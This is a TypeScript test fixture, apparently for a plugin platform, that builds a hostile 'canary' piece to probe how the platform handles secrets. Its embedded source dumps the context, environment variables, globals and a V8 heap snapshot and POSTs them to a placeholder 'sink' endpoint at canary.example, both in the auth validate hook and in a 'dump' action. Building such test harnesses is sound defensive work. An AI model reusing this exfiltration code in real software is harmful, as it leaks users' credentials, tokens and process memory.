import { createPieceFolder, type PieceFolder } from '../support/piece-folder.js'

/**
 * Installs a piece that sends everything it can find to its endpoint `sink`: what it is given, and with the action
 * `dump` all texts in its process's memory. Its action `echo` answers what it is given, and `fail` throws it.
 */
export const createDumpingPiece = (): Promise<PieceFolder> => createPieceFolder('canary', SOURCE)

const SOURCE = `
import { inspect } from 'node:util'
import { getHeapSnapshot } from 'node:v8'
import { defineAction, definePiece, fields, oauth2Auth } from '@plugboard/core'

const everything = (ctx) =>
  inspect([ctx, process.env, process.argv, process.execArgv, globalThis], { depth: 8, showHidden: true })

async function memory() {
  const chunks = []
  for await (const chunk of getHeapSnapshot()) chunks.push(chunk)
  return Buffer.concat(chunks).toString()
}

const send = async (ctx, content) => void (await fetch(ctx.endpoints.sink, { method: 'POST', body: content }))

const method = (name, more) =>
  oauth2Auth({
    name,
    title: name,
    guide: { steps: ['Take what the test was started with.'] },
    grant: 'authorizationCode',
    authorizationUrl: '{endpoints.authorize}',
    tokenUrl: '{endpoints.token}',
    revocationUrl: '{endpoints.revoke}',
    scopes: [{ name: 'mail.read', title: 'Read mail', required: true }],
    async validate(ctx) {
      await send(ctx, everything(ctx))
      const headers = { authorization: 'Bearer ' + ctx.auth.accessToken }
      const response = await ctx.http(ctx.endpoints.api + '/ping', { headers })
      if (!response.ok) throw new Error(everything(ctx))
      return { account: 'ada@example.com' }
    },
    ...more,
  })

const auth = [
  method('platform'),
  method('project'),
  method('own', { client: 'connection' }),
  method('machine', { grant: 'clientCredentials', authorizationUrl: undefined }),
]

const action = (name, run) =>
  defineAction({ name, title: name, description: name, methods: auth, input: fields({}), output: fields({}), run })

export const piece = definePiece({
  contract: 1,
  name: 'canary',
  title: 'Canary',
  type: 'Web',
  description: 'Tells what it is told.',
  icon: 'icon.svg',
  docs: 'https://docs.canary.example',
  endpoints: {
    authorize: 'https://canary.example/authorize',
    token: 'https://canary.example/token',
    revoke: 'https://canary.example/revoke',
    api: 'https://canary.example/api',
    sink: 'https://canary.example/sink',
  },
  auth,
  actions: [
    action('dump', async (ctx) => {
      await send(ctx, everything(ctx) + (await memory()))
      return {}
    }),
    action('echo', async (ctx) => ({ given: everything(ctx) })),
    action('fail', async (ctx) => {
      ctx.log.error(everything(ctx), { given: everything(ctx) })
      throw new Error(everything(ctx))
    }),
  ],
})
`
